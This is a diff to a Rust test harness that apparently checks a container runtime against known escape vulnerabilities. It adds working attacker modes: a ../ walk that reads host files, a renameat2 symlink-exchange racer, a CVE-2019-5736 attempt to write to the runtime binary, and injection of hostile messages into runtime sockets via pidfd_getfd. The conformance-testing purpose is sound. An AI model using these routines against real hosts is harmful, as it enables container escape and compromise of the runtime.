@@ -12,6 +12,12 @@
 //! * `overwrite-exe PID`: the CVE-2019-5736 attacker (see [`overwrite_exe`])
 //! * `syscall [catch-sigsys] CALL [ARG]... [-- CALL [ARG]...]...`: raw
 //!   system calls for the seccomp cases (see [`syscall_mode`])
+//! * `swap STOP SECS A B [A B]...`: the symlink-exchange racer of the
+//!   mount CVEs (see [`swap_mode`])
+//! * `race-exe STOP SECS`: the CVE-2019-5736 attacker of `exec` (see
+//!   [`race_exe_mode`])
+//! * `inject MODE STOP SECS`: writes hostile messages into the sockets of
+//!   the runtime's processes it can reach (see [`inject_mode`])
 
 use serde_json::{json, Map, Value};
 use std::ffi::CString;
@@ -30,6 +36,9 @@ fn main() {
         "sleep" => sleep_mode(rest),
         "overwrite-exe" => overwrite_exe(rest.first().map(String::as_str).unwrap_or("1")),
         "syscall" => syscall_mode(rest),
+        "swap" => swap_mode(rest),
+        "race-exe" => race_exe_mode(rest),
+        "inject" => inject_mode(rest),
         other => {
             eprintln!("rrun-checker: unknown mode {other:?}");
             std::process::exit(2);
@@ -52,6 +61,8 @@ fn report_mode(argv: &[String], rest: &[String]) {
     let mut paths = Map::new();
     let mut files = Map::new();
     let mut sysctls = Map::new();
+    let mut reach = Map::new();
+    let mut stats = Map::new();
     for arg in rest {
         if let Some(p) = arg.strip_prefix("path:") {
             paths.insert(p.to_string(), probe_path(p));
@@ -66,6 +77,10 @@ fn report_mode(argv: &[String], rest: &[String]) {
             sysctls.insert(n.to_string(), value.map_or(Value::Null, Value::String));
         } else if let Some(p) = arg.strip_prefix("out:") {
             out_file = Some(p.to_string());
+        } else if let Some(p) = arg.strip_prefix("reach:") {
+            reach.insert(p.to_string(), reach_up(p));
+        } else if let Some(p) = arg.strip_prefix("stat:") {
+            stats.insert(p.to_string(), stat_path(p));
         }
     }
     let status = proc_status();
@@ -89,6 +104,8 @@ fn report_mode(argv: &[String], rest: &[String]) {
         "paths": paths,
         "files": files,
         "sysctl": sysctls,
+        "reach": reach,
+        "stat": stats,
         "oom_score_adj": read_text("/proc/self/oom_score_adj").and_then(|s| s.trim().parse::<i64>().ok()),
         "fds": fds,
         "uid_map": read_text("/proc/self/uid_map"),
@@ -650,7 +667,7 @@ fn call_in_thread(call: &RawCall) -> Value {
                 .and_then(|r| r.clone())
                 .unwrap_or_else(|| json!({"thread_killed": true}));
         }
-        std::thread::sleep(std::time::Duration::from_millis(5));
+        std::thread::sleep(std::time::Duration::from_millis(1));
     }
     json!({"thread_stuck": true})
 }
@@ -673,4 +690,392 @@ fn catch_sigsys() {
     act.sa_flags = libc::SA_SIGINFO;
     // SAFETY: act is a valid sigaction whose handler only stores to an atomic.
     unsafe { libc::sigaction(libc::SIGSYS, &act, std::ptr::null_mut()) };
+}
+
+/// `reach:P`: can this process read the host file `P` from where it
+/// stands? Tries `P` itself and `P` below `..` repeated 0 to 40 times
+/// from the cwd: from a cwd outside the container's root (CVE-2024-21626)
+/// the `..` walk ends at the host's `/`. Only reads.
+fn reach_up(host_path: &str) -> Value {
+    let relative = host_path.trim_start_matches('/');
+    let mut candidates = vec![host_path.to_string()];
+    candidates.extend((0..=40).map(|k| format!("{}{relative}", "../".repeat(k))));
+    for candidate in candidates {
+        if let Some(content) = read_text(&candidate) {
+            return json!({"reached": true, "via": candidate, "content": content});
+        }
+    }
+    json!({"reached": false})
+}
+
+/// `stat:P`: what `P` is, without opening it for I/O: the link itself
+/// (`lkind`), and what it resolves to (type, device numbers, inode, the
+/// filesystem's magic).
+fn stat_path(path: &str) -> Value {
+    let lkind = match fs::symlink_metadata(path) {
+        Ok(m) => kind_of(m.file_type()),
+        Err(e) => return json!({"exists": false, "errno": errno_of(&e)}),
+    };
+    let meta = match fs::metadata(path) {
+        Ok(m) => m,
+        Err(e) => return json!({"exists": true, "lkind": lkind, "errno": errno_of(&e)}),
+    };
+    let c_path = CString::new(path).unwrap_or_default();
+    // SAFETY: statfs is plain old data; zeroed is a valid value.
+    let mut sfs: libc::statfs = unsafe { std::mem::zeroed() };
+    // SAFETY: a NUL-terminated path and a writable statfs.
+    let fstype = if unsafe { libc::statfs(c_path.as_ptr(), &mut sfs) } == 0 {
+        json!(format!("{:#x}", sfs.f_type))
+    } else {
+        Value::Null
+    };
+    json!({
+        "exists": true,
+        "lkind": lkind,
+        "kind": kind_of(meta.file_type()),
+        "rdev": [libc::major(meta.rdev()), libc::minor(meta.rdev())],
+        "dev": meta.dev(),
+        "ino": meta.ino(),
+        "fstype": fstype,
+    })
+}
+
+fn kind_of(ft: fs::FileType) -> &'static str {
+    if ft.is_symlink() {
+        "l"
+    } else if ft.is_char_device() {
+        "c"
+    } else if ft.is_block_device() {
+        "b"
+    } else if ft.is_fifo() {
+        "p"
+    } else if ft.is_dir() {
+        "d"
+    } else if ft.is_socket() {
+        "s"
+    } else {
+        "f"
+    }
+}
+
+/// The common loop of the attackers: run `step` until the file `stop`
+/// exists or `secs` seconds passed (a bound in case the runner is gone).
+/// `step` returns how much work it did; the stop file is looked at every
+/// 64 steps (a stat per step would slow the race down).
+fn until_stopped(stop: &str, secs: u64, mut step: impl FnMut()) -> bool {
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
+    let mut n = 0u64;
+    loop {
+        step();
+        n += 1;
+        if n.is_multiple_of(64) {
+            if fs::symlink_metadata(stop).is_ok() {
+                return true;
+            }
+            if std::time::Instant::now() > deadline {
+                return false;
+            }
+        }
+    }
+}
+
+fn attacker_args(rest: &[String], what: &str) -> (String, u64) {
+    let stop = rest.first().cloned().unwrap_or_else(|| {
+        eprintln!("rrun-checker {what}: STOP SECS ...");
+        std::process::exit(2)
+    });
+    let secs = rest.get(1).and_then(|s| s.parse().ok()).unwrap_or(60);
+    (stop, secs)
+}
+
+/// `swap STOP SECS A B [A B]...`: exchanges each pair of paths with
+/// renameat2(RENAME_EXCHANGE), over and over, until `STOP` exists: the
+/// racer in a volume shared with the victim (CVE-2021-30465,
+/// CVE-2024-45310, CVE-2023-27561, CVE-2025-31133, CVE-2025-52565).
+/// Prints `{"ready":true}` first and `{"swaps":N,"errors":{errno:n}}` last.
+fn swap_mode(rest: &[String]) {
+    let (stop, secs) = attacker_args(rest, "swap");
+    let pairs: Vec<(CString, CString)> = rest
+        .get(2..)
+        .unwrap_or(&[])
+        .chunks(2)
+        .filter(|c| c.len() == 2)
+        .map(|c| {
+            (
+                CString::new(c[0].as_str()).unwrap_or_default(),
+                CString::new(c[1].as_str()).unwrap_or_default(),
+            )
+        })
+        .collect();
+    print_flushed(&json!({"ready": true, "pairs": pairs.len()}));
+    let mut swaps = 0u64;
+    let mut errors: std::collections::BTreeMap<i32, u64> = Default::default();
+    const RENAME_EXCHANGE: libc::c_uint = 2;
+    let stopped = until_stopped(&stop, secs, || {
+        for (a, b) in &pairs {
+            // SAFETY: two NUL-terminated paths; renameat2 only reads them.
+            let ret = unsafe {
+                libc::syscall(
+                    libc::SYS_renameat2,
+                    libc::AT_FDCWD,
+                    a.as_ptr(),
+                    libc::AT_FDCWD,
+                    b.as_ptr(),
+                    RENAME_EXCHANGE,
+                )
+            };
+            if ret == 0 {
+                swaps += 1;
+            } else {
+                *errors.entry(last_errno()).or_default() += 1;
+            }
+        }
+    });
+    print_flushed(&json!({"swaps": swaps, "errors": errors, "stopped": stopped}));
+}
+
+/// `race-exe STOP SECS`: the CVE-2019-5736 attacker against `exec`, run as
+/// the container's process. Watches /proc for every process that enters
+/// the container, opens its /proc/PID/exe with O_PATH (the runtime's
+/// image while the runtime works there) and tries to reopen that for
+/// writing through /proc/self/fd/N; keeps the handles of images that are
+/// not the container's own and tries them again once `STOP` exists (the
+/// runtime has exited by then). A write that gets through only appends a
+/// marker. Prints `{"ready":true}` first, then the verdict.
+fn race_exe_mode(rest: &[String]) {
+    let (stop, secs) = attacker_args(rest, "race-exe");
+    let own = std::process::id();
+    let mut seen = std::collections::HashSet::new();
+    let mut kept: Vec<(u32, i32, String)> = Vec::new();
+    let mut links: std::collections::BTreeMap<String, u64> = Default::default();
+    let mut open_errnos: std::collections::BTreeMap<i32, u64> = Default::default();
+    let mut write_errnos: std::collections::BTreeMap<i32, u64> = Default::default();
+    let mut write_ok = Vec::new();
+    print_flushed(&json!({"ready": true}));
+    let mut try_write = |fd: i32, what: &str, errnos: &mut std::collections::BTreeMap<i32, u64>| {
+        match fs::OpenOptions::new()
+            .append(true)
+            .open(format!("/proc/self/fd/{fd}"))
+        {
+            Ok(mut f) => match f.write_all(b"#rrun-conformance-overwrite#") {
+                Ok(()) => write_ok.push(what.to_string()),
+                Err(e) => *errnos.entry(errno_of(&e)).or_default() += 1,
+            },
+            Err(e) => *errnos.entry(errno_of(&e)).or_default() += 1,
+        }
+    };
+    until_stopped(&stop, secs, || {
+        let Ok(dir) = fs::read_dir("/proc") else {
+            return;
+        };
+        for entry in dir.flatten() {
+            let Some(pid) = entry
+                .file_name()
+                .to_str()
+                .and_then(|s| s.parse::<u32>().ok())
+            else {
+                continue;
+            };
+            if pid == own || !seen.insert(pid) {
+                continue;
+            }
+            let exe = format!("/proc/{pid}/exe");
+            let link = fs::read_link(&exe)
+                .map(|l| l.display().to_string())
+                .unwrap_or_else(|e| format!("errno {}", errno_of(&e)));
+            let c_exe = CString::new(exe.as_bytes()).unwrap_or_default();
+            // SAFETY: a NUL-terminated path; O_PATH opens nothing for I/O.
+            let fd = unsafe { libc::open(c_exe.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
+            if fd < 0 {
+                *open_errnos.entry(last_errno()).or_default() += 1;
+                *links.entry(link).or_default() += 1;
+                continue;
+            }
+            try_write(fd, &link, &mut write_errnos);
+            let ours = link.ends_with("/checker") || link.ends_with("/busybox");
+            if !ours && kept.len() < 256 {
+                kept.push((pid, fd, link.clone()));
+            } else {
+                // SAFETY: our own fd, closed once.
+                unsafe { libc::close(fd) };
+            }
+            *links.entry(link).or_default() += 1;
+        }
+    });
+    let mut after_errnos = Default::default();
+    for (_, fd, link) in &kept {
+        try_write(*fd, link, &mut after_errnos);
+    }
+    print_flushed(&json!({
+        "processes": seen.len(),
+        "links": links,
+        "open_errnos": open_errnos,
+        "write_errnos": write_errnos,
+        "kept": kept.len(),
+        "after_exit_errnos": after_errnos,
+        "write_succeeded": !write_ok.is_empty(),
+        "written": write_ok,
+    }));
+}
+
+/// `inject MODE STOP SECS`: run in a container whose pid namespace
+/// another container's runtime processes join, with CAP_SYS_PTRACE (a
+/// pod's shared pid namespace). Every new process it sees gets its
+/// socket fds 3..64 duplicated with pidfd_getfd(2) (the runtime's
+/// channel to its caller and the console socket, while the runtime sets
+/// the container up), and MODE written into each:
+/// * `garbage`: 64 KiB of 0xff bytes;
+/// * `oversized`: a frame length of 2 GiB, nothing after it;
+/// * `partial`: a 16 MiB frame length and 100 bytes, the socket held open;
+/// * `fd-zero`: one message carrying an fd of /dev/zero (a "pty master"
+///   that never ends);
+/// * `many-fds`: one message carrying 250 fds of /dev/null.
+///
+/// Flags after a comma: `late` waits 1 ms after it finds a process (the
+/// caller is then past its first message and reads the setup's), `rest`
+/// spares the process's lowest socket (the runtime's channel: the others,
+/// the console socket, get the attack alone). The duplicates stay open
+/// until `STOP` exists. Prints `{"ready":true}` first and what it did last.
+fn inject_mode(rest: &[String]) {
+    let spec = rest.first().cloned().unwrap_or_default();
+    let mut parts = spec.split(',');
+    let mode = parts.next().unwrap_or("").to_string();
+    let flags: Vec<&str> = parts.collect();
+    let late = flags.contains(&"late");
+    let spare_first = flags.contains(&"rest");
+    let (stop, secs) = attacker_args(rest.get(1..).unwrap_or(&[]), "inject");
+    let own = std::process::id();
+    let mut seen = std::collections::HashSet::new();
+    let mut held: Vec<i32> = Vec::new();
+    let mut hits: Vec<Value> = Vec::new();
+    let mut getfd_errnos: std::collections::BTreeMap<i32, u64> = Default::default();
+    let zero = fs::File::open("/dev/zero").ok();
+    let nulls: Vec<fs::File> = (0..250)
+        .filter_map(|_| fs::File::open("/dev/null").ok())
+        .collect();
+    print_flushed(&json!({"ready": true, "mode": spec}));
+    until_stopped(&stop, secs, || {
+        let Ok(dir) = fs::read_dir("/proc") else {
+            return;
+        };
+        for entry in dir.flatten() {
+            let Some(pid) = entry
+                .file_name()
+                .to_str()
+                .and_then(|s| s.parse::<u32>().ok())
+            else {
+                continue;
+            };
+            if pid == own || pid == 1 || !seen.insert(pid) {
+                continue;
+            }
+            // SAFETY: pidfd_open takes a pid and flags.
+            let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) } as i32;
+            if pidfd < 0 {
+                *getfd_errnos.entry(last_errno()).or_default() += 1;
+                continue;
+            }
+            let comm = read_text(&format!("/proc/{pid}/comm")).unwrap_or_default();
+            if late {
+                std::thread::sleep(std::time::Duration::from_millis(1));
+            }
+            let mut sockets = 0;
+            for target in 3..64 {
+                // SAFETY: pidfd_getfd takes a pidfd, an fd number and flags.
+                let fd = unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd, target, 0) } as i32;
+                if fd < 0 {
+                    let errno = last_errno();
+                    if errno != libc::EBADF {
+                        *getfd_errnos.entry(errno).or_default() += 1;
+                    }
+                    continue;
+                }
+                // SAFETY: stat is plain old data; fstat fills it for our fd.
+                let mut st: libc::stat = unsafe { std::mem::zeroed() };
+                // SAFETY: our own fd and a writable stat.
+                let is_socket = unsafe { libc::fstat(fd, &mut st) } == 0
+                    && st.st_mode & libc::S_IFMT == libc::S_IFSOCK;
+                if is_socket {
+                    sockets += 1;
+                }
+                if !is_socket || (spare_first && sockets == 1) {
+                    // SAFETY: our own fd, closed once.
+                    unsafe { libc::close(fd) };
+                    continue;
+                }
+                let sent = inject_into(fd, &mode, zero.as_ref(), &nulls);
+                hits.push(json!({"pid": pid, "comm": comm.trim(), "fd": target, "sent": sent}));
+                held.push(fd);
+            }
+            // SAFETY: our own fd, closed once.
+            unsafe { libc::close(pidfd) };
+        }
+    });
+    for fd in held {
+        // SAFETY: our own fds, closed once.
+        unsafe { libc::close(fd) };
+    }
+    print_flushed(&json!({"mode": spec, "hits": hits, "getfd_errnos": getfd_errnos}));
+}
+
+/// Writes one attack into a socket duplicated from a runtime process;
+/// returns the bytes sent or the errno.
+fn inject_into(fd: i32, mode: &str, zero: Option<&fs::File>, nulls: &[fs::File]) -> Value {
+    let send = |data: &[u8], fds: &[i32]| -> Value {
+        let mut iov = libc::iovec {
+            iov_base: data.as_ptr() as *mut libc::c_void,
+            iov_len: data.len(),
+        };
+        let mut control = vec![0u8; 8192];
+        // SAFETY: msghdr is plain old data; zeroed is valid.
+        let mut msg: libc::msghdr = unsafe { std::mem::zeroed() };
+        msg.msg_iov = &mut iov;
+        msg.msg_iovlen = 1;
+        if !fds.is_empty() {
+            let bytes = std::mem::size_of_val(fds) as u32;
+            // SAFETY: CMSG_SPACE is arithmetic.
+            let space = unsafe { libc::CMSG_SPACE(bytes) } as usize;
+            msg.msg_control = control.as_mut_ptr().cast();
+            msg.msg_controllen = space;
+            // SAFETY: msg_control points at `space` writable bytes, enough
+            // for one header and the fds (8192 > CMSG_SPACE(250 * 4)).
+            unsafe {
+                let cmsg = libc::CMSG_FIRSTHDR(&msg);
+                (*cmsg).cmsg_level = libc::SOL_SOCKET;
+                (*cmsg).cmsg_type = libc::SCM_RIGHTS;
+                (*cmsg).cmsg_len = libc::CMSG_LEN(bytes) as usize;
+                std::ptr::copy_nonoverlapping(
+                    fds.as_ptr().cast::<u8>(),
+                    libc::CMSG_DATA(cmsg),
+                    bytes as usize,
+                );
+            }
+        }
+        // SAFETY: msg points at live buffers; MSG_DONTWAIT never blocks us
+        // on a full socket.
+        let n = unsafe { libc::sendmsg(fd, &msg, libc::MSG_DONTWAIT | libc::MSG_NOSIGNAL) };
+        if n < 0 {
+            json!({"errno": last_errno()})
+        } else {
+            json!(n)
+        }
+    };
+    match mode {
+        "garbage" => send(&[0xffu8; 65536], &[]),
+        "oversized" => send(&0x8000_0000u32.to_le_bytes(), &[]),
+        "partial" => {
+            let mut frame = (16u32 << 20).to_le_bytes().to_vec();
+            frame.extend_from_slice(&[b'{'; 100]);
+            send(&frame, &[])
+        }
+        "fd-zero" => match zero {
+            Some(z) => send(b"/dev/ptmx", &[z.as_raw_fd()]),
+            None => json!({"error": "no /dev/zero"}),
+        },
+        "many-fds" => {
+            let fds: Vec<i32> = nulls.iter().map(|f| f.as_raw_fd()).collect();
+            send(b"/dev/ptmx", &fds)
+        }
+        other => json!({"error": format!("unknown mode {other}")}),
+    }
 }
